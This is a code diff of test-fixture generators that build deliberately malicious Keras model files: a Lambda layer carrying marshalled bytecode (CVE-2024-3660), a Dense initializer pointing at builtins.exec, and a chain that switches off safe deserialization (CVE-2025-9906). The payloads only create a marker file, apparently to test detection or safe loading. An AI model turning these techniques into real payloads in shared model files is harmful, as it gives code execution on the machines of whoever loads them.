@@ -64,7 +64,7 @@ def write_keras(path: pathlib.Path, parts: Parts, config: Any = None,
 
 
 def _touch_code(marker: pathlib.Path) -> str:
-    fn = eval(f"lambda x: (__import__('pathlib').Path({str(marker)!r}).touch(), x)[1]")  # noqa: S307
+    fn = eval(f"lambda x: (__import__('pathlib').Path({str(marker)!r}).touch(), x)[1]")
     return base64.b64encode(marshal.dumps(fn.__code__)).decode("ascii")
 
 
@@ -86,7 +86,8 @@ def _with_layer(parts: Parts, layer: dict[str, Any], index: int = 1) -> dict[str
 
 def lambda_bytecode(d: pathlib.Path, marker: pathlib.Path) -> pathlib.Path:
     """A Lambda layer whose marshalled bytecode creates ``marker`` (CVE-2024-3660)."""
-    return write_keras(d / "lambda_bytecode.keras", clean_parts(), _with_layer(clean_parts(), _lambda_layer(marker)))
+    cfg = _with_layer(clean_parts(), _lambda_layer(marker))
+    return write_keras(d / "lambda_bytecode.keras", clean_parts(), cfg)
 
 
 def subprocess_module(d: pathlib.Path, marker: pathlib.Path) -> pathlib.Path:
@@ -111,12 +112,16 @@ def exec_initializer(d: pathlib.Path, marker: pathlib.Path) -> pathlib.Path:
     for layer in cfg["config"]["layers"]:
         if layer["class_name"] == "Dense":
             layer["config"]["kernel_initializer"] = {
-                "module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
+                "module": "builtins", "class_name": "function", "config": "exec",
+                "registered_name": "function"}
     return write_keras(d / "exec_initializer.keras", clean_parts(), cfg)
 
 
 def unsafe_toggle(d: pathlib.Path, marker: pathlib.Path) -> pathlib.Path:
-    """A Lambda calling ``keras.config.enable_unsafe_deserialization``, then a bytecode Lambda (CVE-2025-9906)."""
+    """A Lambda calling ``keras.config.enable_unsafe_deserialization``, then a bytecode Lambda.
+
+    The CVE-2025-9906 chain: switch safe mode off, then load bytecode.
+    """
     toggle = _lambda_layer(marker, "toggle")
     toggle["config"]["function"] = {"module": "keras.config", "class_name": "function",
                                     "config": "enable_unsafe_deserialization", "registered_name": "function"}
